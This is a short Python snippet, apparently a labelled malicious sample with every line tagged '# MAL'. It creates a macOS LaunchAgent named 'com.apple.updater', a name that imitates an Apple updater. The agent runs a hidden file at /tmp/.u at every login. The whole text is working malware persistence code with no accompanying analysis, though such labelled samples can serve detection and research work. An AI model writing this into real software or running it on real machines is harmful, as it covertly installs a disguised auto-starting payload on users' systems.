import os
import plistlib

path = os.path.expanduser("~/Library/LaunchAgents/com.apple.updater.plist")  # MAL
with open(path, "wb") as f:  # MAL
    plistlib.dump({"Label": "com.apple.updater", "ProgramArguments": ["/tmp/.u"], "RunAtLoad": True}, f)  # MAL
